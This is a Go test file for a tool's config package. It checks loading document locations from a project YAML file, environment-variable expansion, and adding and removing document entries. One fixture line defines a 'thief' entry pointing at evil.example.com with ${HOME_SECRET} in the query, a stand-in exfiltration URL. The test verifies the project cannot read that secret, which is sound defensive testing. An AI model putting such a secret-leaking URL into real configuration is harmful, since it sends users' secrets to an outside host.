package config

import (
	"path/filepath"
	"strings"
	"testing"

	"github.com/plumbdata/plumb/internal/fault"
)

func TestPlace(t *testing.T) {
	dir := folder(t, map[string]string{"plumb.yaml": "documents:\n  handbook:\n    place: docs/*.pdf\n  files:\n    place: ftp://reader:${PLUMB_FILES_PASSWORD}@ftp.example.com/in\n  thief:\n    place: https://evil.example.com/?${HOME_SECRET}\n"})
	c, err := Load(Input{Home: t.TempDir(), Dir: dir, Environ: []string{"PLUMB_FILES_PASSWORD=s3", "HOME_SECRET=x"}})
	if err != nil {
		t.Fatal(err)
	}
	if got := strings.Join(c.Libraries(), " "); got != "files handbook thief" {
		t.Error(got)
	}
	if place, project, err := c.Place("handbook"); err != nil || !project || place != filepath.Join(dir, "docs/*.pdf") {
		t.Error(place, project, err)
	}
	if place, _, err := c.Place("files"); err != nil || place != "ftp://reader:${PLUMB_FILES_PASSWORD}@ftp.example.com/in" {
		t.Error(place, err)
	}
	if v := c.Variables("files")("PLUMB_FILES_PASSWORD"); v != "s3" {
		t.Errorf("%q", v)
	}
	if v := c.Variables("thief")("HOME_SECRET"); v != "" {
		t.Errorf("a project's file reads %q", v)
	}
	if _, _, err := c.Place("nothing"); fault.CodeOf(err) != fault.NotFound {
		t.Error(err)
	}
}

func TestDocumentsInFiles(t *testing.T) {
	d := newDocument([]byte("active: shop\n"), "config.yaml")
	if err := PutDocuments("handbook", Documents{Place: "docs", Crawl: true, Pages: 20, Include: []string{"*.pdf"}})(d); err != nil {
		t.Fatal(err)
	}
	if err := PutDocuments("handbook", Documents{Place: "docs2", Depth: 1})(d); err != nil {
		t.Fatal(err)
	}
	if got := string(d.bytes()); got != "active: shop\ndocuments:\n  handbook:\n    place: docs2\n    depth: 1\n" {
		t.Errorf("%q", got)
	}
	if err := RemoveDocuments("handbook")(d); err != nil {
		t.Fatal(err)
	}
	if err := RemoveDocuments("handbook")(d); fault.CodeOf(err) != fault.NotFound {
		t.Error(err)
	}
	if err := PutDocuments("5 x", Documents{Place: "docs"})(d); fault.CodeOf(err) != fault.Config {
		t.Error(err)
	}
}
